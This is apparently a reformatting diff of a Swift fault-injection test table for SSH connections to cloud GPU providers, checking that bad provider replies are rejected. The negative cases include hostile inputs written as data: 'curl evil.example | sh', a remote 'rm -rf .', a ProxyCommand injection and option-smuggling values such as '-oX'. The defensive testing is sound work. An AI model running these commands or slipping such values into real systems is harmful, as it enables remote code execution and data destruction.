@@ -25,17 +25,24 @@ extension FaultTable {
     },
     connection("an endpoint that is no host", "endpoint", [#""a b""#, #""-x""#, #""""#]),
     connection("a login that is none", "ssh_username", [#""-oX""#, #""a b""#, #""""#]),
-    connection("a host trust of another kind", "host_trust", [#"{"kind":"any","host_pattern":"*","public_key":"k"}"#]),
-    connection("an authority that is no key", "host_trust", [
-      #"{"kind":"cert_authority","host_pattern":"127.0.0.1","public_key":"ssh-ed25519 AAAA"}"#
-    ]),
+    connection(
+      "a host trust of another kind", "host_trust",
+      [#"{"kind":"any","host_pattern":"*","public_key":"k"}"#]),
+    connection(
+      "an authority that is no key", "host_trust",
+      [
+        #"{"kind":"cert_authority","host_pattern":"127.0.0.1","public_key":"ssh-ed25519 AAAA"}"#
+      ]),
     poll(
       "Dedalus: an authority for another host", status: 65, says: "the host authority is for"
     ) { provider, id in
       let key = (try? Authority.shared.get().publicKey) ?? ""
       return provider.dedalusReady(
         id,
-        ["host_trust": #"{"kind":"cert_authority","host_pattern":"*.example","public_key":"\#(key)"}"#])
+        [
+          "host_trust":
+            #"{"kind":"cert_authority","host_pattern":"*.example","public_key":"\#(key)"}"#
+        ])
     },
   ]
 
@@ -61,11 +68,13 @@ extension FaultTable {
   ]
 
   private static let prime: [Fault] = [
-    create("a 422 about public_key, in the shape of errors", status: 0, left: .session, once: true) {
+    create("a 422 about public_key, in the shape of errors", status: 0, left: .session, once: true)
+    {
       _, _ in
       Reply(422, #"{"errors":[{"param":"public_key","details":"Extra inputs are not permitted"}]}"#)
     },
-    create("a 422 about public_key, in the shape of detail", status: 0, left: .session, once: true) {
+    create("a 422 about public_key, in the shape of detail", status: 0, left: .session, once: true)
+    {
       _, _ in
       Reply(
         422, #"{"detail":[{"loc":["body","public_key"],"msg":"Extra inputs are not permitted"}]}"#)
@@ -109,7 +118,10 @@ extension FaultTable {
 
   private static let tensorpool: [Fault] =
     [
-      ("a message instead of a command", 69, "TensorPool says: no capacity", #"{"message":"no capacity"}"#),
+      (
+        "a message instead of a command", 69, "TensorPool says: no capacity",
+        #"{"message":"no capacity"}"#
+      ),
       ("neither command nor message", 65, "lacks \"command\"", "{}"),
       ("an empty command", 65, "error: ", #"{"command":""}"#),
       ("a command that is not ssh", 65, "error: ", #"{"command":"curl evil.example | sh"}"#),
@@ -117,8 +129,14 @@ extension FaultTable {
         "a command with ProxyCommand", 65, "error: ",
         #"{"command":"ssh -oProxyCommand=x ubuntu@127.0.0.1"}"#
       ),
-      ("a command with a remote command", 65, "error: ", #"{"command":"ssh ubuntu@127.0.0.1 rm -rf ."}"#),
-      ("a command that ends in the middle of a quote", 65, "error: ", #"{"command":"ssh 'ubuntu@127"}"#),
+      (
+        "a command with a remote command", 65, "error: ",
+        #"{"command":"ssh ubuntu@127.0.0.1 rm -rf ."}"#
+      ),
+      (
+        "a command that ends in the middle of a quote", 65, "error: ",
+        #"{"command":"ssh 'ubuntu@127"}"#
+      ),
     ].map { name, status, words, body in
       Fault(
         .status, "TensorPool: \(name)", status: status, says: words, alias: "node1.tensorpool"
